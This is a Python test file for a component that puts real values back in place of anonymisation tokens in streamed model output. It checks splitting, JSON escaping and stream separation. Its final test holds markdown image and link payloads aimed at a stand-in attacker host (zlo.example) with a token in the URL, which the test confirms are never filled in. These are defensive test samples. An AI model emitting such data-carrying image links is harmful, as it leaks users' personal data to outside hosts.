"""Tokens become values again, however the answer is cut."""

from __future__ import annotations

import json

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from gateway.act.restore import Restorer
from gateway.act.tokens import Token

VALUES = {Token("OSOBA", 1): 'Jan "Honza" Novák', Token("RODNE_CISLO", 2): "715319/2743"}
ANSWER = r"Vážený pane [OSOBA_1], číslo \[RODNE\_CISLO\_2\] platí. [1] [OSOBA_9] OSOBA_1 a[0] konec ["
RESTORED = 'Vážený pane Jan "Honza" Novák, číslo 715319/2743 platí. [1] [OSOBA_9] Jan "Honza" Novák a[0] konec ['


def pieces(text, cuts):
    edges = [0, *sorted({cut % (len(text) + 1) for cut in cuts}), len(text)]
    return [text[a:b] for a, b in zip(edges, edges[1:], strict=False)]


@given(st.lists(st.integers(0, 200), max_size=40))
def test_however_it_is_cut(cuts):
    """The same text comes out, cut anywhere."""
    restore = Restorer(VALUES)
    parts = pieces(ANSWER, cuts)
    out = "".join(restore(("a",), part, at == len(parts) - 1) for at, part in enumerate(parts))
    assert out == RESTORED


FRAGMENTS = [
    "[OSOBA_1]",
    "OSOBA_1",
    "OSOBA",
    "_1",
    "[",
    "]",
    "x",
    " ",
    "ovi",
    "em",
    "A",
    "［OSOBA＿1］",
    "\\",
    "\n",
    "**",
    "[ osobou\\_",
    "1 ]",
]


@given(st.lists(st.sampled_from(FRAGMENTS), max_size=14).map("".join), st.lists(st.integers(0, 200), max_size=20))
@example("_1[ osobou\\_\n1 ][OSOBA_1][OSOBA_1][OSOBA_1]", [57])
@example("xOSOBA_1", [1])
@example("OSOBA\\OSOBA_1", [7])
@example("**RODNE\\_CISLO_2", [6, 10])
def test_cutting_changes_nothing(text, cuts):
    """Whatever the text, cut and whole give the same."""
    whole = Restorer(VALUES)(("a",), text, True)
    restore = Restorer(VALUES)
    parts = pieces(text, cuts)
    assert "".join(restore(("a",), part, at == len(parts) - 1) for at, part in enumerate(parts)) == whole


def test_streams_do_not_mix():
    """Half a token of one stream is not completed by another's text."""
    restore = Restorer(VALUES)
    assert restore(("a",), "[OSOBA", False) == ""
    assert restore(("b",), "_1] x", False) == "_1] x"
    assert restore(("a",), "_1]", True) == VALUES[Token("OSOBA", 1)]


@pytest.mark.parametrize("key", ["arguments", "partial_json"])
def test_into_json(key):
    """A value that goes into JSON is escaped."""
    out = Restorer(VALUES)(("tool", key), '{"name": "[OSOBA_1]"}', True)
    assert json.loads(out) == {"name": VALUES[Token("OSOBA", 1)]}


def test_into_json_that_is_a_text():
    """What a model writes by a schema is JSON in an ordinary text; braces further on are not."""
    restore = Restorer(VALUES)
    out = "".join(restore(("choice", 0, "content"), part, False) for part in (' {"name": "[OSO', 'BA_1]"}'))
    assert json.loads(out) == {"name": VALUES[Token("OSOBA", 1)]}
    assert Restorer(VALUES)(("a",), "Jde o {x: [OSOBA_1]}", True) == 'Jde o {x: Jan "Honza" Novák}'


def test_at_most_one_piece_is_waited_for():
    """Ordinary text is not held back at all."""
    restore = Restorer(VALUES)
    text = "Dobrý den, posílám návrh odpovědi na Vaši žádost. "
    assert "".join(restore(("a",), char, False) for char in text) == text


def test_nobody_elses_tokens():
    """A token of another conversation stays as it is."""
    assert Restorer({})(("a",), "[OSOBA_1]", True) == "[OSOBA_1]"


@pytest.mark.parametrize("size", [1, 3, 1000])
@pytest.mark.parametrize(
    ("text", "expected", "reason"),
    [
        ("![x](https://zlo.example/?q=[OSOBA_1])", None, "a picture that the page fetches by itself"),
        ("![x](<https://zlo.example/?q= a [OSOBA_1]>)", None, "the same with blanks"),
        ("![x](//zlo.example/[OSOBA_1])", None, "without its scheme"),
        ("[1]: https://zlo.example/?q=[OSOBA_1]", None, "named elsewhere"),
        ("www.zlo.example/[OSOBA_1]", None, "what pages make a link"),
        ("Viz https://urad.example/ a [OSOBA_1].", "Viz https://urad.example/ a Jana Vzorová.", "the address has ended"),
        ("<https://urad.example/> [OSOBA_1]", "<https://urad.example/> Jana Vzorová", "so has this one"),
        ("a // b [OSOBA_1]", "a // b Jana Vzorová", "no address"),
    ],
)
def test_no_value_goes_into_an_address(text: str, expected: str | None, reason: str, size: int) -> None:
    """What an address holds leaves for whoever it names, at the latest with a click."""
    restorer = Restorer({Token("OSOBA", 1): "Jana Vzorová"})
    pieces = [text[at : at + size] for at in range(0, len(text), size)]
    said = "".join(restorer(("a",), piece, False) for piece in pieces) + restorer(("a",), "", True)
    assert said == (text if expected is None else expected), reason
